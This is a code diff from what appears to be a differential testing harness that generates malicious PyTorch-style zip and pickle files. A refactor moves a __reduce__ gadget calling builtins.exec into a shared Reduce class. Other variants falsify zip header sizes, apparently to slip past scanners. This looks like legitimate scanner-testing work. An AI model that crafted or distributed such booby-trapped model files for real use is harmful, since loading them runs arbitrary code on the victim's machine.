@@ -16,20 +16,12 @@ import struct
 import zipfile
 from collections.abc import Iterator
 
-from differential.harness import PayloadFor, Variant, key_of
+from differential.harness import PayloadFor, Reduce, Variant, key_of
 
 FAMILY = "containers-zip"
 
 _EOCD = struct.Struct("<4s4H2LH")
 _CENTRAL = struct.Struct("<4s6H3L5H2L")
-
-
-class _Reduce:
-    def __init__(self, func: object, *args: object) -> None:
-        self.func, self.args = func, args
-
-    def __reduce__(self) -> tuple[object, ...]:
-        return self.func, self.args
 
 
 def _torch_zip(obj: object) -> bytes:
@@ -127,7 +119,7 @@ def _local_lies(data: bytes, how: str) -> bytes:
 
 def variants(payload: PayloadFor) -> Iterator[Variant]:
     def evil(name: str, pad: int = 4096) -> bytes:
-        return _torch_zip({"m": _Reduce(builtins.exec, payload(key_of(FAMILY, name))),
+        return _torch_zip({"m": Reduce(builtins.exec, payload(key_of(FAMILY, name))),
                            "pad": "p" * pad})
 
     benign = _torch_zip({"m": {"w": [1.0, 2.0]}, "pad": ""})
@@ -176,7 +168,7 @@ def _stored_overstated(payload: PayloadFor) -> Iterator[Variant]:
     import pickle
 
     name = "stored_sizes_overstated"
-    data = pickle.dumps(_Reduce(builtins.exec, payload(key_of(FAMILY, name))), 2)
+    data = pickle.dumps(Reduce(builtins.exec, payload(key_of(FAMILY, name))), 2)
     src = io.BytesIO()
     with zipfile.ZipFile(src, "w") as zf:
         zf.writestr("archive/data.pkl", data + b"\x00" * 64)
